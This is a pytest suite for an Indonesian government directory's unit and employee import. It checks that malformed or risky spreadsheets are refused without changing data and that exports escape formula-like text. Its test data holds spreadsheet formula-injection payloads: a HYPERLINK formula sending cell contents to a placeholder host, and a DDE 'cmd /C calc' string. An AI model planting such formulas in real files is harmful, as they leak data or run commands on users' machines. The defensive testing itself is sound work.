"""Odd files for the organisation import (a fuzzing pass fed 211 of them): what a real user's
spreadsheet does is read as meant (a semicolon file with commas in its addresses, Excel for
Mac's CR line endings, optional columns left out), and what would change data wrongly or
silently is refused with a message and changes nothing (a column twice, a value with no
column, a code typed as a number, a formula, a code that differs only in case)."""

from __future__ import annotations

import csv as std_csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from kinerja.core import importjobs, tabular
from kinerja.organisation.imports import EMPLOYEE_COLUMNS, import_file
from kinerja.organisation.models import Employee, Unit
from tests.conftest import Org

from .test_imports import csv, row

pytestmark = pytest.mark.django_db

UNIT_HEADERS = [
    "Kode Unit",
    "Nama Unit",
    "Jenis",
    "Kode Induk",
    "Bidang Urusan",
    "Melayani Publik",
    "Alamat",
]
# The puskesmas of Dinas Kesehatan put under Dinas Pendidikan (a move to another OPD).
PKM = ["DINKES-PKM-01", "UPT Puskesmas Bukitintan", "UPT Puskesmas"]
PKM_TO_DISDIK = [*PKM, "DISDIK", "", "Ya", ""]
REQUIRED_EMPLOYEE = [c.header for c in EMPLOYEE_COLUMNS if c.required]


def units(data: bytes, filename: str = "unit.csv"):  # type: ignore[no-untyped-def]
    return import_file(kind="units", data=data, filename=filename, by=None)


def snapshot() -> list[tuple]:  # type: ignore[type-arg]
    return list(
        Unit.objects.order_by("pk").values_list(
            "code", "name", "kind", "sector", "serves_public", "address", "parent_id", "path"
        )
    )


def quoted_csv(headers: list[str], rows: list[list[str]]) -> bytes:
    """A CSV as Excel writes it: values with commas or quotes quoted."""
    buffer = io.StringIO()
    writer = std_csv.writer(buffer)
    writer.writerow(headers)
    writer.writerows(rows)
    return buffer.getvalue().encode()


def messages(report) -> str:  # type: ignore[no-untyped-def]
    return " ".join(e.message for e in report.errors)


# --- Optional columns left out keep what is stored --------------------------------------------


def test_a_units_file_without_its_optional_columns_keeps_the_units_values(org: Org) -> None:
    Unit.objects.filter(pk=org.puskesmas.pk).update(sector="kesehatan", address="Jl. Sehat 1")
    before = snapshot()
    report = units(
        csv(
            ["Kode Unit", "Nama Unit", "Jenis"],
            [
                ["DINKES", "Dinas Kesehatan", "Dinas"],
                ["DINKES-PKM-01", "UPT Baru", "UPT Puskesmas"],
            ],
        )
    )
    assert report.ok, report.errors
    assert (report.updated, report.unchanged) == (1, 1)
    puskesmas = Unit.objects.get(pk=org.puskesmas.pk)
    assert puskesmas.name == "UPT Baru"
    assert (puskesmas.sector, puskesmas.serves_public, puskesmas.address) == (
        "kesehatan",
        True,
        "Jl. Sehat 1",
    )
    assert puskesmas.parent_id == org.dinkes.pk
    assert [r[2:] for r in snapshot()] == [r[2:] for r in before]
    # A column that is there but empty does clear the value (or set the default).
    report = units(
        csv(
            ["Kode Unit", "Nama Unit", "Jenis", "Kode Induk", "Alamat"],
            [["DINKES-PKM-01", "UPT Baru", "UPT Puskesmas", "DINKES", ""]],
        )
    )
    assert report.ok and Unit.objects.get(pk=org.puskesmas.pk).address == ""


def test_an_employees_file_with_only_the_required_columns_keeps_the_rest(org: Org) -> None:
    employee = org.employee
    Employee.objects.filter(pk=employee.pk).update(
        front_title="dr.", email="siti@example.go.id", phone="0812", is_active=True
    )
    employee.refresh_from_db()
    full = row(employee.nip, employee.name, supervisor=employee.supervisor.nip)
    by_header = dict(zip([c.header for c in EMPLOYEE_COLUMNS], full, strict=True))
    by_header["Nama"] = "Siti Rahmawati Baru"
    report = import_file(
        kind="employees",
        data=csv(REQUIRED_EMPLOYEE, [[by_header[h] for h in REQUIRED_EMPLOYEE]]),
        filename="wajib.csv",
        by=None,
    )
    assert report.ok, report.errors
    assert report.updated == 1
    after = Employee.objects.get(pk=employee.pk)
    assert after.name == "Siti Rahmawati Baru"
    assert (after.front_title, after.email, after.phone, after.is_active) == (
        "dr.",
        "siti@example.go.id",
        "0812",
        True,
    )
    assert after.supervisor_id == employee.supervisor_id and after.path == employee.path


# --- Refused whole, nothing changed ----------------------------------------------------------


@pytest.mark.parametrize(
    "data, filename, expected",
    [
        (
            b"Kode Unit,Nama Unit,Jenis,Kode Induk,Kode Induk\nX-1,Unit X,Bidang,DINKES,DISDIK\n",
            "ganda.csv",
            "Judul kolom muncul lebih dari sekali: 'kode induk'",
        ),
        (
            b"Kode Unit,Nama Unit,Jenis,Kode Induk,Alamat\n"
            b"X-1,Unit X,Bidang,DINKES,Jl. Merdeka No. 5, Sukamaju\n",
            "koma.csv",
            "Baris 2 berisi isian di kolom ke-6 yang tidak berjudul ('Sukamaju')",
        ),
        (
            b"Kode Unit,Nama Unit,Jenis,Kode Induk\nX-1,"
            + b'"'
            + b"a" * 140_000
            + b'"'
            + b",Bidang,DINKES\n",
            "panjang.csv",
            "Berkas CSV rusak di sekitar baris",
        ),
    ],
)
def test_a_file_that_would_lose_or_misplace_values_is_refused(
    org: Org, data: bytes, filename: str, expected: str
) -> None:
    before = snapshot()
    report = units(data, filename)
    assert not report.ok
    assert expected in messages(report)
    assert "Tidak ada data yang diubah" in messages(report)
    assert snapshot() == before


def test_a_unit_code_typed_as_a_number_in_a_workbook_is_refused(org: Org) -> None:
    book = Workbook()
    book.active.append(UNIT_HEADERS)
    book.active.append([7, "Unit Tujuh", "Bidang", "DINKES", "", "", ""])
    book.active.append(["X-8", "Unit Delapan", "Bidang", 12, "", "", ""])
    buffer = io.BytesIO()
    book.save(buffer)
    before = snapshot()
    report = units(buffer.getvalue(), "angka.xlsx")
    assert {(e.row, e.column) for e in report.errors} >= {(2, "Kode Unit"), (3, "Kode Induk")}
    assert "bukan teks" in messages(report) and "001 menjadi 1" in messages(report)
    assert snapshot() == before


def test_a_number_that_is_a_registered_code_is_taken(org: Org) -> None:
    """A short code typed as a number (101) is taken when it is a registered code, in both
    files: only a number that matches nothing may have lost its zeros."""
    Unit.objects.filter(pk=org.puskesmas.pk).update(code="101")
    book = Workbook()
    book.active.append(UNIT_HEADERS)
    book.active.append(
        [101, "UPT Puskesmas Bukitintan Baru", "UPT Puskesmas", "DINKES", "", "", ""]
    )
    buffer = io.BytesIO()
    book.save(buffer)
    report = units(buffer.getvalue(), "angka.xlsx")
    assert report.ok, report.errors
    assert Unit.objects.get(pk=org.puskesmas.pk).name == "UPT Puskesmas Bukitintan Baru"
    people = Workbook()
    people.active.append([c.header for c in EMPLOYEE_COLUMNS])
    cells = row(org.employee.nip, "Siti Rahmawati", supervisor=org.supervisor.nip)
    cells[7] = 101  # Kode Unit
    people.active.append(cells)
    buffer = io.BytesIO()
    people.save(buffer)
    report = import_file(kind="employees", data=buffer.getvalue(), filename="p.xlsx", by=None)
    assert report.ok, report.errors


@pytest.mark.parametrize(
    "code, column, expected",
    [
        ("X\t1", "Kode Unit", "tidak valid"),
        ("X 1", "Kode Unit", "tidak valid"),
        ("X\x071", "Kode Unit", "tidak valid"),
        ("dinkes", "Kode Unit", "hanya berbeda huruf besar/kecil dari unit terdaftar DINKES"),
    ],
)
def test_a_bad_or_look_alike_unit_code_is_refused(
    org: Org, code: str, column: str, expected: str
) -> None:
    before = snapshot()
    report = units(quoted_csv(UNIT_HEADERS, [[code, "Unit X", "Dinas", "", "", "", ""]]))
    assert [(e.column, expected in e.message) for e in report.errors] == [(column, True)]
    assert snapshot() == before


def test_two_codes_in_one_file_that_differ_only_in_case_are_refused(org: Org) -> None:
    report = units(
        csv(
            UNIT_HEADERS,
            [
                ["X-1", "Unit X", "Bidang", "DINKES", "", "", ""],
                ["x-1", "Unit x", "Bidang", "DINKES", "", "", ""],
            ],
        )
    )
    assert [e.row for e in report.errors] == [3]
    assert "sama dengan X-1 di baris 2" in messages(report)
    assert not Unit.objects.filter(code__in=["X-1", "x-1"]).exists()


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://contoh.invalid/?"&A2,"Dinas")', "=1+1", "@SUM(A1:A9)"],
)
def test_a_formula_in_a_name_is_refused(org: Org, name: str) -> None:
    before = snapshot()
    report = units(quoted_csv(UNIT_HEADERS, [["DINKES", name, "Dinas", "", "", "", ""]]))
    assert [e.column for e in report.errors] == ["Nama Unit"]
    assert "dibaca Excel sebagai rumus" in messages(report)
    assert snapshot() == before
    people = import_file(
        kind="employees",
        data=csv(
            [c.header for c in EMPLOYEE_COLUMNS],
            [[*row(org.employee.nip, "Siti")[:10], "=1+1", "Ya"]],
        ),
        filename="p.csv",
        by=None,
    )
    assert [e.column for e in people.errors] == ["Telepon"]


@pytest.mark.parametrize("phone", ["+62 812-3456-7890 (WA)", "+62 21 555 1234 ext 12", "-"])
def test_a_phone_or_name_starting_with_a_sign_is_not_a_formula(org: Org, phone: str) -> None:
    """Exports write text as text, so a value starting with "+" or "-" is taken as written
    (the directory's own export must import back)."""
    people = import_file(
        kind="employees",
        data=quoted_csv(
            [c.header for c in EMPLOYEE_COLUMNS],
            [[*row(org.employee.nip, "Siti")[:10], phone, "Ya"]],
        ),
        filename="p.csv",
        by=None,
    )
    assert people.ok, people.errors
    assert Employee.objects.get(pk=org.employee.pk).phone == phone


# --- Read as meant -------------------------------------------------------------------------


def test_a_semicolon_file_with_commas_in_its_addresses_reads_with_semicolons(org: Org) -> None:
    address = "Jl. Merdeka No. 5, RT 1, RW 2, Kel. A, Kec. B, Kab. C, Prov. D, 28111, ID, -"
    rows = [[f"X-{i}", f"Unit {i}", "Bidang", "DINKES", "", "Tidak", address] for i in range(6)]
    report = units(csv(UNIT_HEADERS, rows, sep=";"))
    assert report.ok, report.errors
    assert set(Unit.objects.filter(code__startswith="X-").values_list("address", flat=True)) == {
        address
    }


def test_a_file_saved_with_cr_line_endings_reads(org: Org) -> None:
    text = "\r".join(
        [",".join(UNIT_HEADERS), 'X-1,"Unit X, Baru",Bidang,DINKES,Umum,Tidak,"Jl. A\rNo. 2"']
    )
    report = units(text.encode())
    assert report.ok, report.errors
    unit = Unit.objects.get(code="X-1")
    assert (unit.name, unit.address) == ("Unit X, Baru", "Jl. A\rNo. 2")


# --- A moved subtree: new units under it go where it went --------------------------------------


def test_a_new_unit_under_a_moved_subtree_takes_the_subtrees_new_place(org: Org) -> None:
    assert units(
        csv(UNIT_HEADERS, [["PKM-TU", "Subbagian TU", "Subbagian", "DINKES-PKM-01", "", "", ""]])
    ).ok
    report = import_file(
        kind="units",
        filename="unit.csv",
        by=None,
        allow_opd_change=True,
        data=csv(
            UNIT_HEADERS,
            [PKM_TO_DISDIK, ["PKM-TU-A", "Urusan Arsip", "Subbagian", "PKM-TU", "", "", ""]],
        ),
    )
    assert report.ok, report.errors
    disdik = Unit.objects.get(code="DISDIK")
    for code in ("DINKES-PKM-01", "PKM-TU", "PKM-TU-A"):
        unit = Unit.objects.get(code=code)
        parent = unit.parent
        assert unit.opd_id == disdik.pk, code
        assert unit.path == f"{parent.path}{unit.pk}/", code
        assert unit.depth == parent.depth + 1, code


# --- Exports write text as text ------------------------------------------------------------


@pytest.mark.parametrize(
    "text, risky",
    [
        ("=1+1", True),
        ("@SUM(A1)", True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3*cmd", True),
        ("\tx", True),
        ("+62 812-3456-7890", False),
        ("-2,5", False),
        ("(0761) 123456", False),
        ("Dinas Kesehatan", False),
        ("", False),
    ],
)
def test_formula_like(text: str, risky: bool) -> None:
    assert tabular.formula_like(text) is risky


def test_an_export_writes_a_formula_like_value_as_text() -> None:
    value = '=HYPERLINK("http://contoh.invalid/?"&A2,"klik")'
    book = load_workbook(io.BytesIO(tabular.xlsx_bytes([("Data", ["Nama"], [[value], ["Biasa"]])])))
    cell = book.active["A2"]
    assert (cell.value, cell.data_type) == (value, "s")
    text = tabular.csv_bytes(["Nama", "Telepon"], [[value, "+62 812"]]).decode("utf-8-sig")
    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://contoh.invalid/?""&A2,""klik"")",+62 812'


def test_a_failed_check_says_what_happened_in_indonesian() -> None:
    assert "tidak lagi berhak mengimpor" in importjobs._failure(PermissionError("units"))
    message = importjobs._failure(RuntimeError("boom"))
    assert message.startswith("Impor gagal karena kesalahan sistem (RuntimeError)")
    assert "Tidak ada data yang diubah" in message
